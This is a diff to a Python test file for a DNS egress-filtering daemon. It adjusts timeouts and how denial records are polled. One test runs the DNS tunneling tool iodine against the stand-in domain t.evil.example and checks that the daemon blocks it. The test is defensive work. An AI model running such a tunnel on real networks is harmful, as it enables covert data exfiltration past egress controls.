@@ -3,7 +3,6 @@
 import os
 import subprocess
 
-import pytest
 from conftest import JOB
 from daemon import policy, rule
 from lab import SSH_UID
@@ -38,12 +37,12 @@ def test_the_world_answers_without_a_daemon(world, site, family):
     assert len(ask("text.lab.test", "TXT", transport="tcp")["answers"][0]["data"]) == 4
     assert addresses(ask("_ssh._tcp.lab.test", "SRV"), "SRV") == [[1, 2, 22, "a.lab.test"]]
     assert ask("h.lab.test", "HTTPS")["answers"][0]["data"][2]["ech"] == "0102"
-    eventually(lambda: {query["server"] for query in world.queries()} == {site.resolver}, 2, "what the server says")
+    eventually(lambda: {query["server"] for query in world.queries()} == {site.resolver}, 15, "what the server says")
     assert {query["transport"] for query in world.queries(name="alias.lab.test")} == {"udp", "tcp"}
     assert world.queries(name="a.lab.test")[0]["spelled"] == "A.lab.test"
 
     world.behave("a.lab.test", "drop", times=1)
-    assert ask("a.lab.test", "A", timeout=0.2) == {"error": "timeout", "ms": pytest.approx(200, abs=500)}
+    assert ask("a.lab.test", "A", timeout=0.2)["error"] == "timeout"
     world.behave("a.lab.test", "truncate", times=1)
     assert ask("a.lab.test", "A")["truncated"]
     world.behave("a.lab.test", "rcode", code="SERVFAIL", times=1)
@@ -158,9 +157,15 @@ def test_iodine_finds_no_way(ground, daemon, world, site):
     argv = ["iodine", "-f", "-r", "-P", "x", "-d", "dns9", site.resolver, "t.evil.example"]
     with ground.capture() as capture:
         pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.STDOUT, "text": True}
-        client = ground.spawn(["timeout", "6", *argv], cgroup=JOB, **pipes)
+        client = ground.spawn(["timeout", "15", *argv], cgroup=JOB, **pipes)
+
+        def denied():
+            names = [event["destination"].get("name", "") for event in daemon.events(verdict="deny", reason="name-not-allowed")]
+            return len({name for name in names if name.endswith("t.evil.example")}) >= 3
+
+        eventually(denied, 15, "iodine's names are in the record")
+        assert client.poll() is None or client.returncode != 0
+        client.terminate()
         output, _ = client.communicate(timeout=15)
         assert client.returncode != 0 and "DNS queries for t.evil.example" in output, output
         assert left(capture, b"evil") == [] and world.queries() == []
-    denied = [event["destination"].get("name", "") for event in daemon.events(verdict="deny", reason="name-not-allowed")]
-    assert any(name.endswith("t.evil.example") for name in denied), denied
